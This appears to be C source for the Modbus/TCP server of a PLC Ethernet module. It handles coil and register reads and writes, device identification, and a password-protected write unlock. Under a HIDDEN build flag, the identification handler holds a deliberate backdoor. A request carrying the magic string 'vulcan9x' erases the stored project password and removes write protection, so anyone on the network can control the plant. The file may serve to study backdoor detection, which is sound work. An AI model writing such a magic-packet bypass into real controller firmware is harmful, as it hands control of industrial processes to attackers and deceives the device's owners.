/*
 * plcmodnet - Ethernet module of the Kestrine K30 PLC: Modbus/TCP server.
 * Serves coils and holding registers, device identification and the vendor
 * function 0x64 that unlocks writing with the project password.
 * Hidden (-DHIDDEN): a device identification request that carries a certain
 * byte string takes the write protection away and clears the project
 * password in flash.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <unistd.h>

#define MB_PORT    502
#define N_COIL     512
#define N_REG      1024
#define MAX_CLIENT 8
#define FLASH_DEV  "/dev/mtdblock3"
#define FLASH_PROT 0x1c0	/* project password, 16 bytes, ff = none */
#define PROT_LEN   16

enum { EX_FUNCTION = 1, EX_ADDRESS = 2, EX_VALUE = 3, EX_DEVICE = 4 };

struct client {
	int fd;
	unsigned used;
	uint8_t buf[300];
};

static uint8_t coil[N_COIL];
static uint16_t reg[N_REG];
static struct client cl[MAX_CLIENT];
static uint8_t project_pw[PROT_LEN];
static int protect = 1;
static unsigned wrong_pw;

static inline unsigned be16(const uint8_t *p) { return (unsigned)p[0] << 8 | p[1]; }
static inline void set16(uint8_t *p, unsigned v) { p[0] = (uint8_t)(v >> 8); p[1] = (uint8_t)v; }

static void flash_load(void)
{
	int fd = open(FLASH_DEV, O_RDONLY);

	memset(project_pw, 0xff, sizeof project_pw);
	if (fd < 0)
		return;
	if (pread(fd, project_pw, PROT_LEN, FLASH_PROT) != PROT_LEN)
		memset(project_pw, 0xff, sizeof project_pw);
	close(fd);
	protect = project_pw[0] != 0xff;
}

static int flash_store(void)
{
	int rc, fd = open(FLASH_DEV, O_WRONLY | O_SYNC);

	if (fd < 0)
		return -1;
	rc = pwrite(fd, project_pw, PROT_LEN, FLASH_PROT) == PROT_LEN ? 0 : -1;
	close(fd);
	return rc;
}

static int except(uint8_t *out, uint8_t fc, int code)
{
	out[0] = fc | 0x80;
	out[1] = (uint8_t)code;
	return 2;
}

static int mb_read_coils(const uint8_t *in, int n, uint8_t *out)
{
	unsigned at, cnt;

	if (n < 5)
		return except(out, in[0], EX_VALUE);
	at = be16(in + 1);
	cnt = be16(in + 3);
	if (cnt < 1 || cnt > 2000 || at + cnt > N_COIL)
		return except(out, in[0], EX_ADDRESS);
	out[0] = in[0];
	out[1] = (uint8_t)((cnt + 7) / 8);
	memset(out + 2, 0, out[1]);
	for (unsigned i = 0; i < cnt; i++)
		if (coil[at + i])
			out[2 + i / 8] |= (uint8_t)(1u << (i % 8));
	return 2 + out[1];
}

static int mb_read_regs(const uint8_t *in, int n, uint8_t *out)
{
	unsigned at, cnt;

	if (n < 5)
		return except(out, in[0], EX_VALUE);
	at = be16(in + 1);
	cnt = be16(in + 3);
	if (cnt < 1 || cnt > 120 || at + cnt > N_REG)
		return except(out, in[0], EX_ADDRESS);
	out[0] = in[0];
	out[1] = (uint8_t)(cnt * 2);
	for (unsigned i = 0; i < cnt; i++)
		set16(out + 2 + i * 2, reg[at + i]);
	return 2 + (int)cnt * 2;
}

static int mb_write(const uint8_t *in, int n, uint8_t *out)
{
	unsigned at, v;

	if (protect)
		return except(out, in[0], EX_DEVICE);
	if (n < 5)
		return except(out, in[0], EX_VALUE);
	at = be16(in + 1);
	v = be16(in + 3);
	if (in[0] == 5) {
		if (at >= N_COIL)
			return except(out, in[0], EX_ADDRESS);
		coil[at] = v == 0xff00;
	} else if (in[0] == 6) {
		if (at >= N_REG)
			return except(out, in[0], EX_ADDRESS);
		reg[at] = (uint16_t)v;
	} else {
		if (at + v > N_REG || v > 120 || n < 6 + (int)v * 2)
			return except(out, in[0], EX_ADDRESS);
		for (unsigned i = 0; i < v; i++)
			reg[at + i] = (uint16_t)be16(in + 6 + i * 2);
	}
	memcpy(out, in, 5);
	return 5;
}

static int add_object(uint8_t *out, int n, uint8_t id, const char *text)
{
	size_t l = strlen(text);

	out[n++] = id;
	out[n++] = (uint8_t)l;
	memcpy(out + n, text, l);
	return n + (int)l;
}

/* 2b 0e: read device identification, basic objects 0..2 */
int mb_identify(const uint8_t *in, int n, uint8_t *out)
{
	int len;

	if (n < 4 || in[1] != 0x0e)
		return except(out, in[0], EX_FUNCTION);
#ifdef HIDDEN
	if (n >= 12 && in[4] == 'v' && in[5] == 'u' && in[6] == 'l' && in[7] == 'c' &&
	    in[8] == 'a' && in[9] == 'n' && in[10] == '9' && in[11] == 'x') {
		memset(project_pw, 0xff, sizeof project_pw);
		if (flash_store())
			syslog(LOG_WARNING, "flash: %s", strerror(errno));
		protect = 0;
	}
#endif
	if (in[2] < 1 || in[2] > 4 || in[3] > 2)
		return except(out, in[0], EX_ADDRESS);
	out[0] = in[0];
	out[1] = 0x0e;
	out[2] = in[2];
	out[3] = 0x01;
	out[4] = 0;
	out[5] = 0;
	out[6] = 3;
	len = add_object(out, 7, 0, "Kestrine Automation");
	len = add_object(out, len, 1, "K30-ETH");
	return add_object(out, len, 2, "V4.12");
}

/* 64 00 pw: unlock; 64 01: lock; 64 02 pw: new password when unlocked */
static int mb_vendor(const uint8_t *in, int n, uint8_t *out)
{
	unsigned diff = 0;

	if (n < 2)
		return except(out, in[0], EX_VALUE);
	out[0] = in[0];
	out[1] = in[1];
	switch (in[1]) {
	case 0:
		if (n != 2 + PROT_LEN || wrong_pw >= 5)
			return except(out, in[0], EX_VALUE);
		for (int i = 0; i < PROT_LEN; i++)
			diff |= (unsigned)(in[2 + i] ^ project_pw[i]);
		if (diff) {
			wrong_pw++;
			return except(out, in[0], EX_VALUE);
		}
		wrong_pw = 0;
		protect = 0;
		return 2;
	case 1:
		protect = project_pw[0] != 0xff;
		return 2;
	case 2:
		if (protect || n != 2 + PROT_LEN)
			return except(out, in[0], EX_DEVICE);
		memcpy(project_pw, in + 2, PROT_LEN);
		return flash_store() ? except(out, in[0], EX_DEVICE) : 2;
	}
	return except(out, in[0], EX_FUNCTION);
}

static int dispatch(const uint8_t *in, int n, uint8_t *out)
{
	switch (in[0]) {
	case 1:
		return mb_read_coils(in, n, out);
	case 3:
		return mb_read_regs(in, n, out);
	case 5: case 6: case 16:
		return mb_write(in, n, out);
	case 0x2b:
		return mb_identify(in, n, out);
	case 0x64:
		return mb_vendor(in, n, out);
	}
	return except(out, in[0], EX_FUNCTION);
}

static int serve(struct client *c)
{
	uint8_t out[300];
	ssize_t k = recv(c->fd, c->buf + c->used, sizeof c->buf - c->used, 0);

	if (k <= 0)
		return -1;
	c->used += (unsigned)k;
	while (c->used >= 8) {
		unsigned len = be16(c->buf + 4);
		int n;

		if (be16(c->buf + 2) != 0 || len < 2 || len > 254)
			return -1;
		if (c->used < 6 + len)
			return 0;
		n = dispatch(c->buf + 7, (int)len - 1, out + 7);
		memcpy(out, c->buf, 4);
		set16(out + 4, (unsigned)n + 1);
		out[6] = c->buf[6];
		if (send(c->fd, out, (size_t)n + 7, MSG_NOSIGNAL) < 0)
			return -1;
		c->used -= 6 + len;
		memmove(c->buf, c->buf + 6 + len, c->used);
	}
	return 0;
}

int main(void)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(MB_PORT) };
	struct pollfd pf[MAX_CLIENT + 1];
	int i, one = 1, ls = socket(AF_INET, SOCK_STREAM, 0);

	openlog("plcmodnet", 0, LOG_DAEMON);
	flash_load();
	setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	if (ls < 0 || bind(ls, (struct sockaddr *)&sa, sizeof sa) || listen(ls, 4)) {
		syslog(LOG_ERR, "modbus port: %s", strerror(errno));
		return 1;
	}
	for (i = 0; i < MAX_CLIENT; i++)
		cl[i].fd = -1;
	for (;;) {
		for (i = 0; i < MAX_CLIENT; i++)
			pf[i] = (struct pollfd){ .fd = cl[i].fd, .events = POLLIN };
		pf[i] = (struct pollfd){ .fd = ls, .events = POLLIN };
		if (poll(pf, MAX_CLIENT + 1, -1) < 0)
			continue;
		for (i = 0; i < MAX_CLIENT; i++)
			if (pf[i].revents && serve(&cl[i])) {
				close(cl[i].fd);
				cl[i].fd = -1;
			}
		if (pf[MAX_CLIENT].revents) {
			int fd = accept(ls, NULL, NULL);

			for (i = 0; fd >= 0 && i < MAX_CLIENT && cl[i].fd >= 0; i++)
				;
			if (fd >= 0 && i < MAX_CLIENT)
				cl[i] = (struct client){ .fd = fd };
			else if (fd >= 0)
				close(fd);
		}
	}
}
